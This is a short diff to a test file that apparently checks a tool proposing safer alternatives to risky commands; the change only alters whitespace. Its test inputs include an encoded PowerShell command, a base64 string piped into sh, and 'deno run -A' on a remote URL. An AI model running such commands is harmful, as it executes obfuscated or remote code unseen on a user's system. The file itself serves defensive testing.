@@ -57,7 +57,7 @@ describe("a safer way", () => {
   });
 
   it.each([
-    ["powershell -enc aQBlAHgA", "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBlAHgA'))   # read it, instead of executing it unseen"],
+    ["powershell -enc aQBlAHgA", "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBlAHgA'))    # read it, instead of executing it unseen"],
     ["```sh\ncd /x; echo aGk= | base64 -d | sh\n```", "print the decoded payload and read it, instead of executing it unseen"],
     ["deno run -A https://x.example/y.ts", "look at the program at this address first, and run a copy that you have read, or a version that is pinned"],
   ])("for %s is one line", async (text, line) => {
